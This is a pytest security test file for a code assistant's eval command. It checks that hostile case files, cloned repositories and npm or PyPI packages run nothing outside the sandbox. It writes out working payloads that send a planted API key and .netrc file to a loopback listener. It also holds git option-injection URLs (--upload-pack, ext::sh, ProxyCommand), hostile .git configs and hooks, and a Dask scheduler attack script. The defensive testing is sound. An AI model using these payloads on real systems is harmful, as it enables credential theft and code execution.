"""eval's doors, tried as an attacker would, as root: what a case file, a cloned repository or a downloaded package
holds never runs outside the sandbox, and the local Dask cluster answers only this eval.

Each attack plants fake secrets (a key in the environment, a credential file in HOME) and carries a payload that
writes a marker and sends the key to a listener on 127.0.0.1: nothing may arrive, and no marker may appear.
"""
from __future__ import annotations

import functools
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import threading
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from code_assistant import vcs
from code_assistant.evaluate.cases import Source, SourceKind
from code_assistant.evaluate.scratch import ScratchError, materialize
from code_assistant.verify.sandbox import Backend, resolve
from tests.repos import CALC_PY, ROOT, TEST_CALC_PY, Listener, answer, modify, python_repo, snapshot
from tests.scripted_server import ScriptedServer

KEY = "sk-planted-eval-doors-0123456789"
SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture
def planted(isolated_env: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A key in the environment and a credential file in HOME, as a developer's machine has them."""
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    (isolated_env / ".netrc").write_text(f"machine example.invalid login me password {KEY}\n")
    return isolated_env


def payload(marker: Path, port: int) -> str:
    """A shell command: a marker, then the key and HOME's files to the listener."""
    send = (f"import os,socket;s=socket.create_connection(('127.0.0.1',{port}));"
            "s.sendall((os.environ.get('OPENAI_API_KEY','')+open(os.path.expanduser('~/.netrc')).read()).encode())")
    return f"touch {marker}; {sys.executable} -c \"{send}\""


def eval_cli(args: list[str], cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, str(ROOT / "main.py"), "eval", *args], cwd=cwd, capture_output=True,
                          text=True, timeout=300, stdin=subprocess.DEVNULL, check=False,
                          env={**os.environ, **(env or {})})


# ----- hole 1: a case's repo field that git would read as an option ----------------------------------------------
@pytest.mark.parametrize("url", ["--upload-pack=:;{payload}", "ext::sh -c {payload}",
                                 "ssh://-oProxyCommand={payload}/r", "-c core.sshCommand={payload}"])
def test_a_case_whose_git_url_is_an_option_or_a_command_runs_nothing(tmp_path: Path, planted: Path, url: str) -> None:
    marker = tmp_path / "marker"
    with Listener() as listener:
        hostile = url.format(payload=payload(marker, listener.port))
        cases = tmp_path / "cases.jsonl"
        case = {"id": "evil", "repo": {"git": hostile, "commit": SHA}, "task": "t", "test_command": "pytest"}
        cases.write_text(json.dumps(case) + "\n")
        proc = eval_cli([str(cases), "--out", "out"], tmp_path)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1 and proc.stderr.startswith(f"error: {cases}:1: ") and "git" in proc.stderr
    assert not marker.exists() and listener.received == []
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("repo", [{"path": "-rf"}, {"pypi": "--index-url=http://127.0.0.1:9/==1"},
                                  {"npm": "--registry=http://127.0.0.1:9/@1.0.0"}, {"git": "-u", "commit": SHA},
                                  {"git": "https://example.invalid/r", "commit": "--upload-pack=x"}])
def test_no_repo_or_commit_field_may_start_with_a_dash(tmp_path: Path, repo: dict[str, str]) -> None:
    from code_assistant.evaluate.cases import CaseError, parse_case

    line = {"id": "a", "task": "t", "test_command": "pytest", "repo": repo}
    with pytest.raises(CaseError, match=r"^f:1: repo (path|pypi|npm|git|commit) may not start with '-'") as refused:
        parse_case(line, where="f:1", base=tmp_path)
    assert "\n" not in str(refused.value)


def test_below_the_case_file_a_url_that_is_an_option_still_reaches_no_git(tmp_path: Path, planted: Path) -> None:
    """The second lock: a Source made without the case file's check (a cluster worker, a future door) is refused by
    the scratch copy, and git itself is given the URL after `--`."""
    marker = tmp_path / "marker"
    with Listener() as listener:
        hostile = f"--upload-pack=:;{payload(marker, listener.port)}"
        with pytest.raises(ScratchError, match="refused"):
            materialize(Source(SourceKind.GIT, hostile, SHA), tmp_path / "repo", resolve("off"))
        (tmp_path / "bare").mkdir()
        vcs.untrusted_git(tmp_path / "bare", "init", "-q")
        with pytest.raises(vcs.GitError):
            vcs.untrusted_git(tmp_path / "bare", "fetch", "-q", "--", hostile, "HEAD")
    assert not marker.exists() and listener.received == []


# ----- hole 3: a .git shipped by a repository or a package ---------------------------------------------------------
def hostile_git_dir(git_dir: Path, marker: Path, port: int) -> None:
    """A .git whose config and hooks run the payload at the first git command in its tree."""
    (git_dir / "objects").mkdir(parents=True)
    (git_dir / "refs" / "heads").mkdir(parents=True)
    (git_dir / "hooks").mkdir()
    (git_dir / "HEAD").write_text("ref: refs/heads/main\n")
    command = payload(marker, port).replace('"', '\\"')
    (git_dir / "config").write_text(f'[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "{command}"\n'
                                    f'[filter "x"]\n\tclean = "{command}"\n\tsmudge = "{command}"\n')
    for hook in ("post-checkout", "pre-commit", "post-commit", "post-index-change"):
        (git_dir / "hooks" / hook).write_text(f"#!/bin/sh\n{payload(marker, port)}\n")
        (git_dir / "hooks" / hook).chmod(0o755)


def git_as_the_agent_runs_it(repo: Path) -> None:
    """What the agent's own process runs on the scratch copy, outside the sandbox: plain git, the user's config."""
    vcs.git(repo, "status", "--porcelain")
    vcs.try_git(repo, "ls-files", "-co", "--exclude-standard", "-z")
    vcs.git(repo, "-c", "user.name=a", "-c", "user.email=a@b.invalid", "commit", "-q", "--allow-empty", "-m", "x")


def test_a_path_case_that_ships_a_hostile_git_is_copied_without_it(tmp_path: Path, planted: Path) -> None:
    marker = tmp_path / "marker"
    tree = python_repo(tmp_path, git=False)
    (tree / ".gitattributes").write_text("* filter=x\n")
    with Listener() as listener:
        hostile_git_dir(tree / ".git", marker, listener.port)
        before = snapshot(tree)
        repo = materialize(Source(SourceKind.PATH, str(tree)), tmp_path / "scratch" / "repo", resolve("off"))
        git_as_the_agent_runs_it(repo)
    assert not marker.exists() and listener.received == []
    assert "fsmonitor" not in (repo / ".git" / "config").read_text() and snapshot(tree) == before
    assert (repo / "calc.py").read_text() == (tree / "calc.py").read_text()


def sdist(where: Path, marker: Path, port: int) -> Path:
    """evil-1.0.tar.gz: an sdist with an in-tree build backend (pip runs it, in the sandbox, to read the metadata)
    that ships a hostile `.git` and a `.gitattributes` naming its filter."""
    backend = ("import os\n\ndef get_requires_for_build_wheel(config_settings=None):\n    return []\n\n"
               "def prepare_metadata_for_build_wheel(directory, config_settings=None):\n"
               "    info = os.path.join(directory, 'evil-1.0.dist-info')\n    os.makedirs(info)\n"
               "    open(os.path.join(info, 'METADATA'), 'w').write('Metadata-Version: 2.1\\nName: evil\\n"
               "Version: 1.0\\n')\n    return 'evil-1.0.dist-info'\n\n"
               "def build_wheel(directory, config_settings=None, metadata_directory=None):\n    raise SystemExit(1)\n")
    files = {"evil-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
             "evil-1.0/pyproject.toml": ('[build-system]\nrequires = []\nbuild-backend = "backend"\n'
                                         'backend-path = ["."]\n'),
             "evil-1.0/backend.py": backend, "evil-1.0/calc.py": "def add(a, b):\n    return a - b\n",
             "evil-1.0/.gitattributes": "* filter=x\n"}
    shipped = where / "shipped"
    hostile_git_dir(shipped / ".git", marker, port)
    archive = where / "evil-1.0.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        for name, text in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(text.encode())
            tar.addfile(info, io.BytesIO(text.encode()))
        tar.add(shipped / ".git", arcname="evil-1.0/.git")
    return archive


class Index:
    """A PyPI simple index on 127.0.0.1 serving one sdist."""

    def __init__(self, root: Path, archive: Path) -> None:
        (root / "simple" / "evil").mkdir(parents=True)
        (root / "packages").mkdir()
        archive.rename(root / "packages" / archive.name)
        (root / "simple" / "evil" / "index.html").write_text(
            f'<html><body><a href="../../packages/{archive.name}">{archive.name}</a></body></html>\n')
        handler = functools.partial(SimpleHTTPRequestHandler, directory=str(root))
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/simple"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.mark.parametrize("backend", [Backend.BUBBLEWRAP, Backend.LANDLOCK])
def test_an_sdist_from_a_loopback_index_that_ships_a_hostile_git_runs_nothing_outside(
        tmp_path: Path, planted: Path, monkeypatch: pytest.MonkeyPatch, backend: Backend) -> None:
    """The download runs in the sandbox (both backends: under Landlock it used to fail to write the archive), the
    shipped `.git` is never unpacked, and git on the copy, the eval's and the agent's, runs nothing of the package."""
    marker = tmp_path / "marker"
    sandbox = resolve("write", "bwrap" if backend == Backend.BUBBLEWRAP else str(tmp_path / "no-bwrap"))
    if sandbox.backend != backend:
        pytest.skip(f"no {backend} here")
    with Listener() as listener:
        index = Index(tmp_path / "index", sdist(tmp_path, marker, listener.port))
        monkeypatch.setenv("PIP_INDEX_URL", index.url)
        try:
            repo = materialize(Source(SourceKind.PYPI, "evil==1.0"), tmp_path / "scratch" / "repo", sandbox)
        finally:
            index.close()
        git_as_the_agent_runs_it(repo)
    assert not marker.exists() and listener.received == []
    assert not (repo / ".git" / "hooks" / "post-checkout").exists()
    assert "fsmonitor" not in (repo / ".git" / "config").read_text()
    assert (repo / "calc.py").is_file() and (repo / ".gitattributes").is_file()
    assert sorted(p.name for p in (tmp_path / "scratch").iterdir()) == ["repo"], "the download folder is gone"


class NpmRegistry:
    """An npm registry on 127.0.0.1 serving one package's tarball (its packument and the .tgz, as static files)."""

    def __init__(self, root: Path, marker: Path, port: int) -> None:
        shipped = root / "shipped"
        hostile_git_dir(shipped / ".git", marker, port)
        files = {"package/package.json": json.dumps({"name": "evil", "version": "1.0.0"}),
                 "package/index.js": "module.exports = (a, b) => a - b;\n", "package/.gitattributes": "* filter=x\n"}
        tarball = root / "evil" / "-" / "evil-1.0.0.tgz"
        tarball.parent.mkdir(parents=True)
        with tarfile.open(tarball, "w:gz") as tar:
            for name, text in files.items():
                info = tarfile.TarInfo(name)
                info.size = len(text.encode())
                tar.addfile(info, io.BytesIO(text.encode()))
            tar.add(shipped / ".git", arcname="package/.git")
        handler = functools.partial(SimpleHTTPRequestHandler, directory=str(root))
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}/"
        version = {"name": "evil", "version": "1.0.0", "dist": {
            "tarball": f"{self.url}evil/-/evil-1.0.0.tgz", "shasum": hashlib.sha1(tarball.read_bytes()).hexdigest()}}
        (root / "evil" / "index.html").write_text(json.dumps({"name": "evil", "dist-tags": {"latest": "1.0.0"},
                                                             "versions": {"1.0.0": version}}))
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.mark.parametrize("backend", [Backend.BUBBLEWRAP, Backend.LANDLOCK])
def test_an_npm_tarball_from_a_loopback_registry_that_ships_a_hostile_git_runs_nothing_outside(
        tmp_path: Path, planted: Path, monkeypatch: pytest.MonkeyPatch, backend: Backend) -> None:
    if shutil.which("npm") is None:
        pytest.skip("no npm here")
    marker = tmp_path / "marker"
    sandbox = resolve("write", "bwrap" if backend == Backend.BUBBLEWRAP else str(tmp_path / "no-bwrap"))
    if sandbox.backend != backend:
        pytest.skip(f"no {backend} here")
    with Listener() as listener:
        registry = NpmRegistry(tmp_path / "registry", marker, listener.port)
        monkeypatch.setenv("npm_config_registry", registry.url)
        try:
            repo = materialize(Source(SourceKind.NPM, "evil@1.0.0"), tmp_path / "scratch" / "repo", sandbox)
        finally:
            registry.close()
        git_as_the_agent_runs_it(repo)
    assert not marker.exists() and listener.received == []
    assert (repo / "index.js").is_file() and "fsmonitor" not in (repo / ".git" / "config").read_text()


def test_an_archive_drops_every_git_at_any_depth_and_keeps_the_rest(tmp_path: Path) -> None:
    from code_assistant.evaluate.scratch import shipped_git

    assert [n for n in ("package/.git/config", ".git", "a/b/.git", "package/src/x.py", "package/.gitignore",
                        "package/.github/workflows/ci.yml", "package/x.git") if shipped_git(n)] == \
        ["package/.git/config", ".git", "a/b/.git"]


# ----- the git hardening itself -----------------------------------------------------------------------------------
def test_untrusted_git_reads_neither_the_system_nor_the_users_config(tmp_path: Path, planted: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A user's global config (here HOME's, planted with a fsmonitor) is not read for a tree the user did not make;
    the same command with plain git reads it (so the test can fail). GIT_DIR and added configuration in this
    process's environment are not passed on."""
    monkeypatch.setenv("GIT_DIR", str(tmp_path / "elsewhere"))
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", "'core.fsmonitor'='touch /nonexistent'")
    marker = tmp_path / "marker"
    (planted / ".gitconfig").write_text(f'[core]\n\tfsmonitor = "touch {marker}"\n')
    repo = tmp_path / "r"
    repo.mkdir()
    vcs.untrusted_git(repo, "init", "-q")
    vcs.untrusted_git(repo, "status", "--porcelain")
    assert not marker.exists()
    env = vcs.untrusted_environment()
    assert env["GIT_CONFIG_GLOBAL"] == "/dev/null" and env["GIT_CONFIG_NOSYSTEM"] == "1"
    assert "GIT_DIR" not in env and "GIT_CONFIG_PARAMETERS" not in env
    monkeypatch.delenv("GIT_DIR")
    monkeypatch.delenv("GIT_CONFIG_PARAMETERS")
    vcs.try_git(repo, "status", "--porcelain")
    assert marker.exists(), "plain git reads HOME's config: the check above means something"


@pytest.mark.parametrize("form", ["path", "file://"])
def test_a_git_case_from_a_local_repository_with_a_hostile_config_is_cloned_and_runs_nothing(
        tmp_path: Path, planted: Path, form: str) -> None:
    """The clone's transport reads the source repository but runs nothing its config or hooks name; the copy has the
    commit's tree and a .git made here."""
    marker = tmp_path / "marker"
    source = python_repo(tmp_path)
    commit = vcs.git(source, "rev-parse", "HEAD").strip()
    with Listener() as listener:
        hostile_git_dir(tmp_path / "hostile", marker, listener.port)
        with (source / ".git" / "config").open("a") as config:
            config.write((tmp_path / "hostile" / "config").read_text())
            config.write(f"[uploadpack]\n\tpackObjectsHook = touch {marker}\n")
        for hook in (tmp_path / "hostile" / "hooks").iterdir():
            hook.rename(source / ".git" / "hooks" / hook.name)
        url = str(source) if form == "path" else f"file://{source}"
        repo = materialize(Source(SourceKind.GIT, url, commit), tmp_path / "scratch" / "repo", resolve("off"))
        git_as_the_agent_runs_it(repo)
        assert not marker.exists() and listener.received == []
        assert (repo / "calc.py").read_text() == (source / "calc.py").read_text()
        assert "fsmonitor" not in (repo / ".git" / "config").read_text()
        subprocess.run(["git", "status"], cwd=source, capture_output=True, check=False)  # plain git, not ours
    assert marker.exists(), "plain git in the source repository runs its fsmonitor: the planted config is live"


# ----- hole 2: the local Dask cluster ------------------------------------------------------------------------------
# What code in a case's package tries against the scheduler's port: Dask's own client over plain tcp://, and a TLS
# handshake with no client certificate followed by a Dask message.
ATTACK = """\
import pathlib, socket, ssl, sys
port, marker = int(sys.argv[1]), sys.argv[2]
try:
    from distributed import Client
    Client(f"tcp://127.0.0.1:{port}", timeout="3s").submit(pathlib.Path(marker).touch).result(timeout=5)
    print("SUBMITTED tcp")
except Exception as exc:
    print("REFUSED tcp", type(exc).__name__)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
try:
    with context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5)) as tls:
        tls.sendall(b"\\x00" * 64)
        print("SUBMITTED tls" if tls.recv(1024) else "REFUSED tls closed")
except (OSError, ssl.SSLError) as exc:
    print("REFUSED tls", type(exc).__name__)
"""
def test_the_local_cluster_answers_only_this_eval(tmp_path: Path, planted: Path) -> None:
    """A scheduler anyone on 127.0.0.1 reaches runs what they submit, as root, outside the sandbox. The local one
    speaks only TLS with this eval's temporary CA: a client with no certificate, or another CA's, is refused at the
    handshake, over tcp:// or tls://, from here and from a sandboxed download (network on, as pip runs a build
    backend). The eval's own client still runs a task there; no worker's environment holds the certificate."""
    pytest.importorskip("distributed")
    from distributed import Client
    from distributed.security import Security

    from code_assistant.evaluate.cluster import LOCAL, DaskCluster

    marker = tmp_path / "marker"
    (tmp_path / "attack.py").write_text(ATTACK)
    cluster = DaskCluster(LOCAL, 1)
    try:
        address = cluster.cluster.scheduler_address
        assert address.startswith("tls://127.0.0.1:"), address
        port = address.rsplit(":", 1)[1]
        for tried, security in ((f"tcp://127.0.0.1:{port}", None), (address, Security.temporary())):
            with pytest.raises((OSError, ValueError, TimeoutError)):
                Client(tried, security=security, timeout="3s").submit(marker.touch).result(timeout=5)
        here = subprocess.run([sys.executable, "attack.py", port, str(marker)], cwd=tmp_path, capture_output=True,
                              text=True, timeout=120, check=False)
        from code_assistant.verify.runner import TestRunner

        sandboxed = TestRunner([sys.executable, "attack.py", port, str(marker)], cwd=tmp_path,
                               sandbox=resolve("write", network=True), timeout=120).run()
        for output in (here.stdout + here.stderr, sandboxed.output):
            assert output.count("REFUSED") == 2 and "SUBMITTED" not in output, output
        assert not marker.exists()
        assert cluster.client.submit(sum, [1, 2], pure=False).result(timeout=30) == 3, "the eval's own client works"
        leaked = cluster.client.run(lambda: [k for k, v in os.environ.items() if "BEGIN" in v or "PRIVATE KEY" in v])
        assert list(leaked.values()) == [[]], leaked
    finally:
        cluster.close()


@pytest.mark.parametrize("address", ["tcp://127.0.0.1:8786", "127.0.0.1:8786", "tls://"])
def test_a_cluster_address_without_tls_is_refused_in_one_line(tmp_path: Path, address: str) -> None:
    cases = tmp_path / "cases.jsonl"
    cases.write_text(json.dumps({"id": "a", "repo": ".", "task": "t", "test_command": "pytest"}) + "\n")
    proc = eval_cli([str(cases), "--out", "out", "--cluster", address], tmp_path)
    assert proc.returncode == 2 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert proc.stderr.startswith("error: eval --cluster: ") and "tls://HOST:PORT" in proc.stderr
    assert not (tmp_path / "out").exists()


def test_joining_a_tls_scheduler_needs_the_certificates_named_in_dasks_configuration() -> None:
    pytest.importorskip("distributed")
    from code_assistant.errors import ConfigError
    from code_assistant.evaluate.cluster import DaskCluster

    with pytest.raises(ConfigError, match="DASK_DISTRIBUTED__COMM__TLS__CA_FILE"):
        DaskCluster("tls://127.0.0.1:9", 1)


def test_eval_joins_a_running_scheduler_over_tls_with_the_certificates_dask_is_told(tmp_path: Path) -> None:
    """A scheduler and worker started elsewhere with TLS (here: in the test's process, on 127.0.0.1); the eval names
    the CA and its client certificate in Dask's environment variables and runs its case there. No model answers, so
    the case ends as 'the agent did not run' — on the TLS worker."""
    pytest.importorskip("distributed")
    from distributed import LocalCluster
    from distributed.security import Security

    security = Security.temporary()
    env = {"OPENAI_API_KEY": "test-key"}
    for variable, name, text in (("CA_FILE", "ca.pem", security.tls_ca_file),
                                 ("CLIENT__CERT", "client.pem", security.tls_client_cert),
                                 ("CLIENT__KEY", "client.key", security.tls_client_key)):
        (tmp_path / name).write_text(str(text))
        env[f"DASK_DISTRIBUTED__COMM__TLS__{variable}"] = str(tmp_path / name)
    repo = python_repo(tmp_path)
    cases = tmp_path / "cases.jsonl"
    cases.write_text(json.dumps({"id": "a", "repo": str(repo), "task": "fix add", "test_command": "pytest"}) + "\n")
    with LocalCluster(n_workers=1, threads_per_worker=1, processes=False, protocol="tls://", host="127.0.0.1",
                      dashboard_address=None, security=security) as cluster:
        proc = eval_cli([str(cases), "--out", "out", "--cluster", cluster.scheduler_address, "--base-url",
                         "http://127.0.0.1:9/v1", "--request-timeout", "5"], tmp_path, env)
    assert proc.returncode == 0, proc.stderr
    result = json.loads((tmp_path / "out" / "results.jsonl").read_text().splitlines()[-1])
    assert result["worker"].startswith("tls://127.0.0.1:") and result["verdict"] == "error", result
    assert result["message"].startswith("the agent did not run: ")


# ----- a case that names the rest of the disk ----------------------------------------------------------------------
@pytest.mark.parametrize("repo", ["~", "~/work/proj", "../../proj", {"git": "~/work/proj", "commit": SHA},
                                  {"git": "file://{home}/work/proj", "commit": SHA}, "linked"])
def test_a_case_naming_a_folder_outside_its_own_is_refused_and_nothing_reaches_the_model(
        tmp_path: Path, planted: Path, repo: str | dict[str, str]) -> None:
    """A downloaded cases file whose repo is HOME, another project or a link out of its folder: what a case names is
    copied, indexed and shown to the model, so it may name only what lies beside it — refused before anything runs,
    the model asked nothing."""
    (planted / "work").mkdir()
    private = python_repo(planted / "work", {"calc.py": CALC_PY + "# private-marker-8x\n", "tests/test_calc.py":
                                             TEST_CALC_PY, "pytest.ini": "[pytest]\npythonpath = .\n"})
    downloaded = tmp_path / "downloads" / "set"
    downloaded.mkdir(parents=True)
    (downloaded / "linked").symlink_to(private)
    named = json.loads(json.dumps(repo).replace("{home}", str(planted)))
    if isinstance(named, str) and named.startswith("../"):
        named = os.path.relpath(private, downloaded)
    cases = downloaded / "cases.jsonl"
    cases.write_text(json.dumps({"id": "a", "repo": named, "task": "fix add",
                                 "test_command": f"{sys.executable} -m pytest -q -p no:cacheprovider"}) + "\n")
    with ScriptedServer([answer(modify("calc.py", "a - b", "a + b"))] * 3) as model:
        proc = eval_cli([str(cases), "--out", str(tmp_path / "out"), "--base-url", model.url, "--no-reproduce"],
                        tmp_path)
    assert "private-marker-8x" not in json.dumps(model.chat_requests), "the private project went to the model"
    assert proc.returncode == 2, proc.stdout + proc.stderr
    [line] = proc.stderr.strip().splitlines()
    assert f"{cases}:1: the case's repository" in line and "outside the cases file's folder" in line, line
    assert "--case-root" in line and model.chat_requests == [] and not (tmp_path / "out").exists()


def test_a_folder_the_person_names_with_case_root_is_allowed(tmp_path: Path) -> None:
    from code_assistant.evaluate.cases import CaseError, read_cases

    mirrors, sets = tmp_path / "mirrors", tmp_path / "sets"
    mirrors.mkdir()
    python_repo(mirrors, {"calc.py": "def add(a, b):\n    return a - b\n"})
    sets.mkdir()
    (sets / "cases.jsonl").write_text(json.dumps({"id": "a", "repo": {"git": "../mirrors/proj", "commit": SHA},
                                                  "task": "t", "test_command": "pytest"}) + "\n")
    with pytest.raises(CaseError, match="outside the cases file's folder"):
        read_cases(sets / "cases.jsonl")
    [case] = read_cases(sets / "cases.jsonl", roots=[mirrors])
    assert case.source.where == str(mirrors / "proj")


def test_a_test_patch_that_writes_into_git_is_refused_by_the_judge(tmp_path: Path, planted: Path) -> None:
    """The case's hidden tests are a diff the judge applies outside the sandbox: one that creates a hook (here, and
    in a nested `.git`) is refused by git apply's own path check, and nothing runs at the next commit."""
    from code_assistant.evaluate.scratch import apply_patch

    marker = tmp_path / "marker"
    repo = materialize(Source(SourceKind.PATH, str(python_repo(tmp_path, git=False))), tmp_path / "s" / "repo",
                       resolve("off"))
    for where in (".git/hooks/post-commit", "sub/.git/hooks/post-commit"):
        patch = (f"diff --git a/{where} b/{where}\nnew file mode 100755\n--- /dev/null\n+++ b/{where}\n"
                 f"@@ -0,0 +1,2 @@\n+#!/bin/sh\n+touch {marker}\n")
        why = apply_patch(repo, patch)
        assert why is not None and "invalid path" in why, why
    git_as_the_agent_runs_it(repo)
    assert not marker.exists() and not (repo / ".git" / "hooks" / "post-commit").exists()
